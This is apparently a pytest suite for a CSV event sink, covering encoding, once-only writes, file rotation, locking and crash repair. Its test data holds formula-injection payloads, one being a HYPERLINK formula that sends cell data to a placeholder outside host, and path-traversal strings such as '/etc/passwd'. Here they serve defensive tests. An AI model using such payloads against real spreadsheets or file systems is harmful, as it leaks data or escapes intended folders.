"""The csv sink: rows that any reader takes, each id once, in files that sort by time."""

import asyncio
import contextlib
import csv
import json
import os
import stat
import string
import subprocess
import sys
import tracemalloc
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import apsw
import pydantic
import pytest
from csvsink import (
    NotCsv,
    csv_files,
    delivered,
    deliveries,
    delivery,
    event_id,
    ids,
    journal_module,
    options,
    rows,
    rows_module,
    sink,
    strict_rows,
    writer_module,
)
from hypothesis import given
from hypothesis import strategies as st

import relay

DEFAULT = (  # noqa: SIM905  as the documentation prints it
    "id,time,type,source,subject,mobile,country,short_code,keyword,carrier,message,message_id,"
    "reply,label,consent,fields"
).split(",")


@pytest.fixture
async def opened():
    """Makes sinks that are open, and closes them afterwards."""
    sinks = []

    async def make(*args, **named):
        made = sink(*args, **named)
        sinks.append(made)
        await made.open()
        return made

    yield make
    for each in sinks:
        await each.close()


def read(file):
    with file.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream, strict=True))


# rows


async def test_an_event_without_map_fills_the_default_columns(opened, tmp_path):
    archive = await opened(tmp_path)
    await archive.send_batch([delivery(1, message="hi", fields={"Name": ["A", "B"]})])
    header, row = read(tmp_path / "out/events.csv")
    assert header == DEFAULT
    assert dict(zip(header, row, strict=True)) == dict.fromkeys(DEFAULT, "") | {
        "id": event_id(1),
        "time": "2026-11-23T04:34:00.123456Z",
        "type": "com.sumotext.poll",
        "source": "/callbacks/sumotext",
        "subject": "12345/JOIN",
        "mobile": "+12125550001",
        "country": "US",
        "message": "hi",
        "fields": '{"Name":["A","B"]}',
    }


async def test_columns_follow_the_map_behind_the_id(opened, tmp_path):
    archive = await opened(tmp_path, columns=("Phone", "Name"))
    await archive.send_batch(
        [delivery(1, {"Name": "Ann", "Phone": "1"}), delivery(2, {"Name": None})]
    )
    assert read(tmp_path / "out/events.csv") == [
        ["id", "Phone", "Name"],
        [event_id(1), "1", "Ann"],
        [event_id(2), "", ""],
    ]


async def test_without_a_map_nothing_of_another_vendors_event_is_lost(opened, tmp_path):
    archive = await opened(tmp_path)
    of_vendor = {
        "type": "com.vendor.message",
        "contact": "+12125550101",
        "consent": relay.OPT_OUT,
        "dedup_key": "m1",
        "topic": "STOP",
    }
    all_data = (
        {"words": "STOP", "parameters": [1]},
        {"words": "STOP", "fields": {"a": 1}, "message": "Hi", "consent": "no"},
    )
    for number, data in enumerate(all_data):
        made = replace(delivery(number).event, data=data, **of_vendor)
        await archive.send_batch([relay.Delivery(made.id, made, None)])
    names, first, second = read(tmp_path / "out/events.csv")
    one, two = (dict(zip(names, row, strict=True)) for row in (first, second))
    for row in (one, two):
        assert (row["mobile"], row["keyword"], row["message_id"]) == ("+12125550101", "STOP", "m1")
    assert (one["consent"], one["message"]) == (relay.OPT_OUT, "")
    assert (two["consent"], two["message"]) == ("no", "Hi")
    assert json.loads(one["fields"]) == {"words": "STOP", "parameters": [1]}
    assert json.loads(two["fields"]) == {"words": "STOP", "fields": {"a": 1}}


async def test_a_mapped_id_does_not_hide_the_events_own(opened, tmp_path):
    archive = await opened(tmp_path, columns=("id",))
    await archive.send_batch([delivery(1, {"id": 7})])
    assert read(tmp_path / "out/events.csv") == [["event_id", "id"], [event_id(1), "7"]]


async def test_the_bytes_are_rfc_4180_in_utf_8_without_a_mark(opened, tmp_path):
    archive = await opened(tmp_path, columns=("a", "b"))
    await archive.send_batch([delivery(1, {"a": 'say "hé"', "b": "two\nlines"})])
    expected = f'"id","a","b"\r\n"{event_id(1)}","say ""hé""","two\nlines"\r\n'
    assert (tmp_path / "out/events.csv").read_bytes() == expected.encode()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (7, "7"),
        (1.5, "1.5"),
        ({"a": "ü"}, '{"a":"ü"}'),
        (["x", None], '["x",null]'),
        (datetime(2026, 11, 23, tzinfo=ZoneInfo("UTC")), "2026-11-23 00:00:00+00:00"),
        ("a\0b", "a\ufffdb"),
        ("\ud800", "\ufffd"),
        ({"a": "\udfff\0"}, '{"a":"\ufffd\\u0000"}'),
    ],
)
async def test_any_value_becomes_a_cell(opened, tmp_path, value, cell):
    archive = await opened(tmp_path, columns=("a",))
    await archive.send_batch([delivery(1, {"a": value})])
    assert rows(tmp_path / "out/events.csv") == [[event_id(1), cell]]


texts = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))


@given(st.lists(st.lists(texts, min_size=2, max_size=2), max_size=5))
def test_exact_mode_gives_back_what_went_in(values):
    table = rows_module.RowFormat(("a", "b"), defused=False)
    data = table.header + b"".join(
        table.row(delivery(n, {"a": a, "b": b})) for n, (a, b) in enumerate(values)
    )
    wanted = [["id", "a", "b"], *([event_id(n), *pair] for n, pair in enumerate(values))]
    assert strict_rows(data) == wanted
    assert list(csv.reader(data.decode().splitlines(keepends=True), strict=True)) == wanted or any(
        len(text.splitlines()) > 1 or text.endswith(tuple("\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"))
        for pair in values
        for text in pair
    )


@given(st.text())
def test_any_text_at_all_makes_one_row(value):
    for defused in (True, False):
        table = rows_module.RowFormat(("a",), defused=defused)
        (row,) = strict_rows(table.row(delivery(1, {"a": value})))
        assert row[0] == event_id(1)


# formulas


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    " =1",
    "  \u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\x01=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "−1",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "+",
    "+1",
    "+0123456789",
    "+12125551212 ",
    "+12125551212\n",
    "+1234567890123456",
    "+１２１２５５５１２１２",
]
# The separators in these begin a cell of their own for some spreadsheets.
BEHIND_SEPARATORS = {"\t=1": "\t'=1", " =1": " '=1", "  \u00a0=1": "  \u00a0'=1"}
HARMLESS = [
    "",
    "a=1",
    "1-2",
    "'=1",
    "+12125551212",
    "+4930123456",
    "+1212555",
    "ab@example.com",
    " a",
    "x\ty",
]


async def test_spreadsheet_mode_defuses_formulas(opened, tmp_path):
    archive = await opened(tmp_path, columns=("a",))
    await archive.send_batch([delivery(n, {"a": cell}) for n, cell in enumerate(FORMULAS)])
    wanted = ["'" + BEHIND_SEPARATORS.get(cell, cell) for cell in FORMULAS]
    assert [row[1] for row in rows(tmp_path / "out/events.csv")] == wanted


async def test_spreadsheet_mode_leaves_the_rest_whole(opened, tmp_path):
    archive = await opened(tmp_path, columns=("a",))
    await archive.send_batch([delivery(n, {"a": cell}) for n, cell in enumerate(HARMLESS)])
    assert [row[1] for row in rows(tmp_path / "out/events.csv")] == HARMLESS


async def test_exact_mode_leaves_formulas_alone(opened, tmp_path):
    archive = await opened(tmp_path, columns=("=a",), mode="exact")
    await archive.send_batch([delivery(n, {"=a": cell}) for n, cell in enumerate(FORMULAS)])
    assert read(tmp_path / "out/events.csv")[0] == ["id", "=a"]
    assert [row[1] for row in rows(tmp_path / "out/events.csv")] == FORMULAS


async def test_column_names_are_defused_too(opened, tmp_path):
    archive = await opened(tmp_path, columns=("=cmd()",))
    await archive.send_batch([delivery(1, {"=cmd()": "x"})])
    assert read(tmp_path / "out/events.csv")[0] == ["id", "'=cmd()"]


@given(st.text(string.printable + "＝－\u200b\u00a0", max_size=6))
def test_no_defused_cell_begins_like_a_formula(value):
    (row,) = strict_rows(rows_module.RowFormat(("a",), defused=True).row(delivery(1, {"a": value})))
    shown = row[1].lstrip(" \t\r\n\x0b\x0c\u200b\u00a0")
    assert not shown.startswith(("=", "+", "-", "@", "＝", "－"))


# once


async def test_a_replay_writes_no_second_row(opened, tmp_path):
    archive = await opened(tmp_path)
    for _ in range(2):
        outcomes = await archive.send_batch(deliveries(1, 2, 2))
        assert all(delivered(outcomes))
    assert ids(tmp_path) == [event_id(1), event_id(2)]


async def test_a_replay_after_a_restart_and_a_rename_of_the_sink_writes_no_second_row(
    opened, tmp_path
):
    archive = await opened(tmp_path)
    await archive.send_batch(deliveries(1, 2))
    await archive.close()
    again = await opened(tmp_path)
    again.name = "renamed"
    assert all(delivered(await again.send_batch(deliveries(2, 3))))
    assert ids(tmp_path) == [event_id(1), event_id(2), event_id(3)]


async def test_batches_sent_at_once_are_written_one_after_the_other(opened, tmp_path):
    archive = await opened(tmp_path)
    batches = [deliveries(*range(start, start + 50)) for start in range(0, 400, 25)]
    await asyncio.gather(*map(archive.send_batch, batches))
    assert sorted(ids(tmp_path)) == [event_id(number) for number in range(425)]


async def test_a_cancelled_batch_is_still_written_once(opened, tmp_path):
    archive = await opened(tmp_path)
    task = asyncio.ensure_future(archive.send_batch(deliveries(*range(100))))
    await asyncio.sleep(0)
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)
    await archive.send_batch(deliveries(*range(101)))
    assert sorted(ids(tmp_path)) == [event_id(number) for number in range(101)]


async def test_a_second_writer_is_refused_and_named(opened, tmp_path):
    await opened(tmp_path)
    with pytest.raises(relay.Pause, match=r"events\.csv.*another process or sink") as refusal:
        await opened(tmp_path)
    assert str(tmp_path) in refusal.value.reason


OTHER_PROCESS = """
import asyncio, sys
from csvsink import sink
import relay
try:
    asyncio.run(sink(sys.argv[1]).open())
except relay.Pause as pause:
    print(pause.reason)
"""


async def test_a_second_process_is_refused_until_the_first_is_gone(opened, tmp_path, root):
    def other():
        done = subprocess.run(
            [sys.executable, "-c", OTHER_PROCESS, str(tmp_path)],
            capture_output=True,
            text=True,
            check=True,
            env=os.environ | {"PYTHONPATH": f"{root}:{root / 'tests'}"},
        )
        return done.stdout

    archive = await opened(tmp_path)
    await archive.send_batch(deliveries(1))
    assert "another process or sink" in other()
    await archive.close()
    assert other() == ""


async def test_a_refused_sink_works_as_soon_as_the_other_is_gone(opened, tmp_path):
    first = await opened(tmp_path)
    second = sink(tmp_path)
    with pytest.raises(relay.Pause):
        await second.send_batch(deliveries(1))
    await first.close()
    assert delivered(await second.send_batch(deliveries(1))) == [True]
    await second.close()


# files


async def test_the_file_and_its_folders_are_private(opened, tmp_path):
    archive = await opened(tmp_path, path="out/{{ data.country }}/events.csv")
    await archive.send_batch(deliveries(1))
    file = tmp_path / "out/US/events.csv"
    assert stat.S_IMODE(file.stat().st_mode) & 0o027 == 0
    assert stat.S_IMODE(file.parent.stat().st_mode) & 0o027 == 0
    (ledger,) = (tmp_path / "out").glob(".*.ledger")
    assert stat.S_IMODE(ledger.stat().st_mode) == 0o600


async def test_a_template_spreads_rows_over_files(opened, tmp_path):
    archive = await opened(tmp_path, path="out/{{ data.country }}/{{ time[:10] }}.csv")
    await archive.send_batch([delivery(1), delivery(2, country="CA"), delivery(3)])
    assert [row[0] for row in rows(tmp_path / "out/US/2026-11-23.csv")] == [
        event_id(1),
        event_id(3),
    ]
    assert [row[0] for row in rows(tmp_path / "out/CA/2026-11-23.csv")] == [event_id(2)]


@pytest.mark.parametrize(
    "text",
    [
        "../../etc/x",
        "/etc/passwd",
        "..",
        ".",
        "",
        "a/b",
        "a\\b",
        "a\0b",
        "\n",
        "\ud800",
        "x" * 5000,
        "é" * 5000,
        ".events.csv-0.ledger",
        "~root",
        "CON",
        " ",
    ],
)
@pytest.mark.parametrize(
    "template",
    ["out/{{ data.keyword }}/e.csv", "out/{{ data.keyword }}.csv", "out/p-{{ data.keyword }}.csv"],
)
async def test_no_text_leads_out_of_the_folder(opened, tmp_path, text, template):
    folder = tmp_path / "a/b"
    archive = await opened(folder, path=template)
    (outcome,) = await archive.send_batch([delivery(1, keyword=text)])
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    made = [path for path in files if not path.name.startswith(".")]
    if isinstance(outcome, relay.Reject):
        assert "options.path" in outcome.reason
        assert not made
    else:
        (file,) = made
        assert file.is_relative_to(folder / "out")
        assert len(file.relative_to(folder / "out").parts) <= 2
        assert rows(file)[0][0] == event_id(1)


async def test_what_is_a_file_to_one_event_and_a_folder_to_another_rejects_the_later(
    opened, tmp_path
):
    """As retries of ten contacts they would park the sink, with all that others have sent."""
    archive = await opened(tmp_path, path="out/{{ data.label }}/{{ data.keyword }}.csv")
    first, second = delivery(1, label="", keyword="k"), delivery(2, label="k.csv", keyword="x")
    outcomes = await archive.send_batch([first, second, delivery(3, label="l", keyword="k")])
    assert [type(each) for each in outcomes] == [relay.Delivered, relay.Reject, relay.Delivered]
    assert "out/k.csv" in outcomes[1].reason
    assert outcomes[1].status is None


async def test_a_path_that_a_sender_makes_too_long_costs_its_event_alone(opened, tmp_path):
    """As a pause, one text would stop the sink for all others."""
    long = "/".join(["{{ data.keyword }}"] * 40) + ".csv"
    archive = await opened(tmp_path, path=f"out/{long}")
    bad, good = await archive.send_batch([delivery(1, keyword="k" * 190), delivery(2, keyword="k")])
    assert isinstance(bad, relay.Reject)
    assert "shorten options.path" in bad.reason
    assert len(bad.reason) < 500
    assert isinstance(good, relay.Delivered)


async def test_a_path_that_is_too_long_for_all_is_a_matter_of_configuration(opened, tmp_path):
    archive = await opened(tmp_path, path=f"out/{'k' * 300}.csv")
    (bad,) = await archive.send_batch(deliveries(1))
    assert isinstance(bad, relay.Pause)
    assert "shorten options.path" in bad.reason


async def test_a_template_that_fails_rejects_its_event_alone(opened, tmp_path):
    archive = await opened(tmp_path, path="out/{{ 1 // (data.keyword | length) }}.csv")
    bad, good = await archive.send_batch([delivery(1, keyword=""), delivery(2, keyword="k")])
    assert isinstance(bad, relay.Reject)
    assert isinstance(good, relay.Delivered)


async def test_other_columns_begin_another_file(opened, tmp_path):
    archive = await opened(tmp_path, columns=("a",))
    await archive.send_batch([delivery(1, {"a": "x"})])
    await archive.close()
    archive = await opened(tmp_path, columns=("b",))
    await archive.send_batch([delivery(1, {"b": "x"}), delivery(2, {"b": "y"})])
    old, new = csv_files(tmp_path)
    assert new == tmp_path / "out/events.csv"
    assert read(old) == [["id", "a"], [event_id(1), "x"]]
    assert read(new) == [["id", "b"], [event_id(2), "y"]]


async def test_a_full_file_is_put_away_by_number(opened, tmp_path):
    archive = await opened(tmp_path, columns=("a",), rotate={"size": "1KiB"})
    for number in range(40):
        await archive.send_batch([delivery(number, {"a": "x" * 100})])
    files = csv_files(tmp_path)
    assert len(files) > 3
    assert all(file.stat().st_size <= 1024 for file in files)
    assert files[-1].name == "events.csv"
    assert [file.name[-8:] for file in files[:2]] == ["0001.csv", "0002.csv"]
    assert ids(tmp_path) == [event_id(number) for number in range(40)]


@pytest.mark.parametrize(
    ("every", "label"),
    [("hour", "2026-11-22T22"), ("day", "2026-11-22"), ("month", "2026-11")],
)
async def test_a_period_ends_in_the_relays_time_zone(opened, tmp_path, every, label):
    zone = ZoneInfo("America/Chicago")
    archive = await opened(tmp_path, zone=zone, rotate={"every": every})
    clock = datetime(2026, 11, 22, 22, 15, tzinfo=zone).timestamp()
    archive._files._now = lambda: clock
    file = tmp_path / "out/events.csv"
    for number, hours in enumerate([0, 0.5, 24 * 30]):
        await archive.send_batch(deliveries(number))
        os.utime(file, (clock, clock))
        clock += 3600 * hours
    await archive.send_batch(deliveries(9))
    old, new = csv_files(tmp_path)
    assert old.name == f"events.{label}.0001.csv"
    assert [row[0] for row in rows(old)] == [event_id(0), event_id(1), event_id(2)]
    assert [row[0] for row in rows(new)] == [event_id(9)]


@pytest.mark.parametrize(
    ("zone", "first", "second"),
    [
        ("America/New_York", "2026-11-01T01-0400", "2026-11-01T01-0500"),
        ("Europe/Berlin", "2026-10-25T02+0200", "2026-10-25T02+0100"),
    ],
)
async def test_an_hour_that_comes_twice_has_two_files(opened, tmp_path, zone, first, second):
    archive = await opened(tmp_path, zone=ZoneInfo(zone), rotate={"every": "hour"})
    clock = datetime.strptime(f"{first}30", "%Y-%m-%dT%H%z%M").timestamp()
    archive._files._now = lambda: clock
    for number in range(3):
        await archive.send_batch(deliveries(number))
        os.utime(tmp_path / "out/events.csv", (clock, clock))
        clock += 3600
    names = {file.name for file in csv_files(tmp_path)}
    assert names == {"events.csv", f"events.{first}.0001.csv", f"events.{second}.0001.csv"}
    assert sorted(ids(tmp_path)) == [event_id(number) for number in range(3)]


async def test_no_file_is_ever_written_over(opened, tmp_path):
    archive = await opened(tmp_path, rotate={"size": "1B"})
    await archive.send_batch(deliveries(1))
    day = f"{datetime.now(ZoneInfo('UTC')):%Y-%m-%d}"
    theirs = tmp_path / f"out/events.{day}.0007.csv"
    theirs.write_text("mine")
    await archive.send_batch(deliveries(2))
    assert theirs.read_text() == "mine"
    assert (tmp_path / f"out/events.{day}.0008.csv").exists()


# files that somebody else has touched


async def test_a_file_moved_away_is_begun_anew(opened, tmp_path):
    archive = await opened(tmp_path)
    await archive.send_batch(deliveries(1))
    (tmp_path / "out/events.csv").rename(tmp_path / "out/taken.csv")
    await archive.send_batch(deliveries(1, 2))
    assert ids(tmp_path) == [event_id(2), event_id(1)] or ids(tmp_path) == [
        event_id(1),
        event_id(2),
    ]
    assert [row[0] for row in rows(tmp_path / "out/events.csv")] == [event_id(2)]


async def test_a_folder_removed_is_made_anew(opened, tmp_path):
    archive = await opened(tmp_path, path="out/{{ data.country }}/e.csv")
    await archive.send_batch(deliveries(1))
    (tmp_path / "out/US/e.csv").unlink()
    (tmp_path / "out/US").rmdir()
    assert delivered(await archive.send_batch(deliveries(2))) == [True]


@pytest.mark.parametrize("size", [0, 1, 100, 200])
async def test_a_file_cut_short_by_somebody_takes_new_rows(opened, tmp_path, size):
    archive = await opened(tmp_path)
    await archive.send_batch(deliveries(1, 2))
    file = tmp_path / "out/events.csv"
    os.truncate(file, size)
    await archive.send_batch(deliveries(3))
    assert f'\n"{event_id(3)}",'.encode() in file.read_bytes()


async def test_a_last_line_without_an_end_is_ended(opened, tmp_path):
    archive = await opened(tmp_path)
    await archive.send_batch(deliveries(1))
    file = tmp_path / "out/events.csv"
    os.truncate(file, file.stat().st_size - 2)
    await archive.send_batch(deliveries(2))
    assert ids(tmp_path) == [event_id(1), event_id(2)]


async def test_a_file_saved_by_a_spreadsheet_is_put_away_untouched(opened, tmp_path):
    archive = await opened(tmp_path)
    await archive.send_batch(deliveries(1))
    file = tmp_path / "out/events.csv"
    edited = b"\xef\xbb\xbf" + file.read_bytes().replace(b",", b";")
    file.write_bytes(edited)
    await archive.send_batch(deliveries(2))
    old, new = csv_files(tmp_path)
    assert old.read_bytes() == edited
    assert [row[0] for row in rows(new)] == [event_id(2)]


async def test_a_file_locked_by_another_program_is_tried_again(opened, tmp_path):
    archive = await opened(tmp_path)
    await archive.send_batch(deliveries(1))
    program = subprocess.Popen(
        ["flock", tmp_path / "out/events.csv", "sh", "-c", "echo locked; read line"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    assert program.stdout.readline() == b"locked\n"
    (outcome,) = await archive.send_batch(deliveries(2))
    assert isinstance(outcome, relay.Retry)
    assert "locked" in outcome.reason
    program.communicate(b"\n")
    assert delivered(await archive.send_batch(deliveries(2))) == [True]


# two sinks in one folder

NEIGHBOUR = "out/{{ data.keyword }}.csv"


async def test_an_event_that_names_another_sinks_file_is_refused_alone(opened, tmp_path):
    """Whichever of the two is first at work."""
    ours, theirs = sink(tmp_path), await opened(tmp_path, path=NEIGHBOUR)
    told = await theirs.send_batch([delivery(1, keyword="events"), delivery(2, keyword="join")])
    assert [type(each) for each in told] == [relay.Reject, relay.Delivered]
    assert "out/events.csv: another csv sink writes this file" in told[0].reason
    assert delivered(await ours.send_batch(deliveries(3))) == [True]
    assert ids(tmp_path) == [event_id(3), event_id(2)]
    await ours.close()
    assert delivered(await theirs.send_batch([delivery(1, keyword="events")])) == [True]
    assert ids(tmp_path) == [event_id(3), event_id(1), event_id(2)]


async def test_of_two_templates_that_name_one_file_the_first_has_it(opened, tmp_path):
    first = await opened(tmp_path, path=NEIGHBOUR)
    (tmp_path / "link").symlink_to("out")
    second = await opened(tmp_path, path="link/{{ data.label }}.csv")
    event = delivery(1, keyword="a", label="a")
    assert delivered(await first.send_batch([event])) == [True]
    assert delivered(await second.send_batch([event])) == [False]
    assert delivered(await second.send_batch([delivery(1, label="b")])) == [True]
    assert sorted(ids(tmp_path / "out")) == [event_id(1)] * 2


def test_the_files_that_senders_name_take_little_memory(tmp_path, monkeypatch):
    """As paths, these would take almost two MiB."""
    monkeypatch.setattr(writer_module, "MOST_FILES", 1000)

    def named(number):
        return Path(f"/{number:0200}/{number:0200}.csv")

    place = options(tmp_path, path=NEIGHBOUR).place()
    writer_module.register_sink(place)
    tracemalloc.start()
    try:
        assert all(writer_module.claim_file(place, named(number)) for number in range(1500))
        assert tracemalloc.get_traced_memory()[0] < 256 * 1024
    finally:
        tracemalloc.stop()
    other = options(tmp_path, path="{{ data.label }}.csv").place()
    assert not writer_module.claim_file(other, named(1499))
    assert writer_module.claim_file(other, named(0))  # it was longest ago
    writer_module.unregister_sink(place)
    writer_module.unregister_sink(other)


@pytest.mark.parametrize("protected", [True, False])
async def test_a_repair_cuts_off_nothing_that_another_sink_has_written(
    opened, tmp_path, monkeypatch, protected
):
    """Unprotected, a row is lost that the other one's ledger has as written."""
    file = tmp_path / "out/a.csv"
    first = sink(tmp_path, path=NEIGHBOUR)
    await first.send_batch([delivery(1, keyword="a")])
    with monkeypatch.context() as patch:
        patch.setattr(journal_module.Journal, "finish", lambda _: None)
        await first.send_batch([delivery(number, keyword="a") for number in range(2, 9)])
    await first.close()
    os.truncate(file, file.read_bytes().index(event_id(4).encode()) + 50)
    second = await opened(tmp_path, path="out/{{ data.label }}.csv")
    assert delivered(await second.send_batch([delivery(9, label="a")])) == [True]
    if not protected:
        monkeypatch.setattr(writer_module, "claim_file", lambda *_: True)
    again = await opened(tmp_path, path=NEIGHBOUR)
    assert (event_id(9).encode() in file.read_bytes()) is protected
    written = [delivery(number, keyword="a") for number in (1, 2, 3)]
    assert delivered(await again.send_batch(written)) == [True] * 3


# an append that was under way when the relay ended


@pytest.fixture
async def unfinished(tmp_path, monkeypatch):
    """A file with two rows of which the ledger knows the second as announced only."""
    archive = sink(tmp_path)
    await archive.send_batch(deliveries(1))
    with monkeypatch.context() as patch:
        patch.setattr(journal_module.Journal, "finish", lambda _: None)
        await archive.send_batch(deliveries(2))
    await archive.close()
    return tmp_path / "out/events.csv"


async def test_a_complete_row_is_kept_and_put_on_disk_again(opened, unfinished, monkeypatch):
    """After a failed fsync the row may stand in the system's memory alone, and count as clean."""
    calls = []
    for name in ("pwrite", "fsync"):
        real = getattr(os, name)

        def call(*args, name=name, real=real):
            calls.append((name, Path(f"/proc/self/fd/{args[0]}").readlink(), *args[1:]))
            return real(*args)

        monkeypatch.setattr(os, name, call)
    before = unfinished.read_bytes()
    archive = await opened(unfinished.parent.parent)
    row = before.splitlines(keepends=True)[2]
    assert calls[:2] == [
        ("pwrite", unfinished, row, len(before) - len(row)),
        ("fsync", unfinished),
    ]
    await archive.send_batch(deliveries(2))
    assert unfinished.read_bytes() == before


async def test_a_repair_does_not_make_yesterdays_file_todays(opened, unfinished):
    os.utime(unfinished, (1_000_000, 1_000_000))
    await opened(unfinished.parent.parent)
    assert unfinished.stat().st_mtime == 1_000_000


@pytest.mark.parametrize(
    "edit",
    [
        lambda data: data.replace(b"+12125550001", b"+12125550009"),
        lambda data: data.replace(b"JOIN", b"LEAVE"),
        lambda data: data[:-20],
        lambda data: data[: len(data) // 3],
    ],
)
async def test_a_file_edited_since_is_not_cut(opened, unfinished, edit):
    edited = edit(unfinished.read_bytes()) + b"more and more\r\n" * 100
    unfinished.write_bytes(edited)
    archive = await opened(unfinished.parent.parent)
    assert unfinished.read_bytes() == edited
    assert delivered(await archive.send_batch(deliveries(2))) == [True]


@pytest.mark.parametrize("absolute", [True, False])
async def test_no_file_outside_the_folder_is_repaired(opened, unfinished, absolute):
    """Whatever the ledger says: another user may have written it."""
    outside = unfinished.parent.parent / "outside"
    cut = unfinished.read_bytes()[:-20]
    outside.write_bytes(cut)
    (ledger,) = unfinished.parent.glob(".*.ledger")
    with contextlib.closing(apsw.Connection(str(ledger))) as db:
        name = str(outside) if absolute else "../outside"
        db.execute("UPDATE pending SET path = ?", (name,)).fetchall()
    await opened(unfinished.parent.parent)
    assert outside.read_bytes() == cut


async def test_a_pipe_in_place_of_the_file_holds_nothing_up(opened, tmp_path):
    (tmp_path / "out").mkdir()
    os.mkfifo(tmp_path / "out/events.csv")
    archive = await opened(tmp_path)
    (outcome,) = await asyncio.wait_for(archive.send_batch(deliveries(1)), 10)
    assert not delivered([outcome])[0]


async def test_an_edit_ahead_of_the_append_leaves_the_file_alone(opened, unfinished):
    edited = unfinished.read_bytes().replace(b"JOIN", b"LEFT").replace(b"poll", b"note")
    unfinished.write_bytes(edited)
    await opened(unfinished.parent.parent)
    assert unfinished.read_bytes() == edited


async def test_a_file_gone_since_is_begun_anew(opened, unfinished):
    unfinished.unlink()
    archive = await opened(unfinished.parent.parent)
    assert all(delivered(await archive.send_batch(deliveries(1, 2))))
    assert [row[0] for row in rows(unfinished)] == [event_id(2)]


# what is said


async def test_a_folder_in_the_way_is_named(opened, tmp_path):
    (tmp_path / "out/events.csv").mkdir(parents=True)
    archive = await opened(tmp_path)
    (outcome,) = await archive.send_batch(deliveries(1))
    assert isinstance(outcome, relay.Retry)
    assert str(tmp_path / "out/events.csv") in outcome.reason
    (problem,) = await archive.check()
    assert str(tmp_path / "out/events.csv") in problem


async def test_a_number_in_a_path_is_not_named_whole(opened, tmp_path):
    archive = await opened(tmp_path, path="out/{{ data.mobile }}/e.csv")
    (tmp_path / "out/+12125551212/e.csv").mkdir(parents=True)
    (outcome,) = await archive.send_batch(deliveries(1, mobile="+12125551212"))
    assert "1212" in outcome.reason
    assert "2125551212" not in outcome.reason


async def test_check_finds_nothing_and_makes_nothing_where_all_is_well(tmp_path):
    assert await sink(tmp_path).check() == []
    assert list(tmp_path.iterdir()) == []


async def test_check_finds_a_file_where_the_folder_should_be(tmp_path):
    (tmp_path / "out").write_text("")
    (problem,) = await sink(tmp_path).check()
    assert str(tmp_path / "out") in problem


async def test_a_damaged_ledger_pauses_and_is_named(opened, tmp_path):
    archive = await opened(tmp_path)
    await archive.send_batch(deliveries(1))
    await archive.close()
    (ledger,) = (tmp_path / "out").glob(".*.ledger")
    ledger.write_bytes(b"no database" * 1000)
    with pytest.raises(relay.Pause, match="damaged") as refusal:
        await opened(tmp_path)
    assert str(ledger) in refusal.value.reason


@pytest.mark.parametrize(
    "values",
    [
        {"path": "{{"},
        {"path": "out/"},
        {"path": ""},
        # What a callback says would name the store's own files, say.
        {"path": "data/{{ data.label }}"},
        {"path": "data/relay.{{ data.label }}"},
        {"path": "data/a{% if test %}b{% endif %}"},
        {"mode": "safe"},
        {"rotate": {"every": "week"}},
        {"rotate": {"size": "64"}},
    ],
)
def test_wrong_options_are_refused(tmp_path, values):
    with pytest.raises(pydantic.ValidationError):
        options(tmp_path, **values)


# the reader that these tests trust


@pytest.mark.parametrize(
    "data",
    [
        b"a,b\n",
        b"a,b",
        b"a,\r\nb\r\n",
        b'a"b\r\n',
        b'"a\r\n',
        b'"a"b\r\n',
        b"\xef\xbb\xbfa\r\n",
        b"a,",
    ],
)
def test_the_strict_reader_is_strict(data):
    with pytest.raises(NotCsv):
        strict_rows(data)
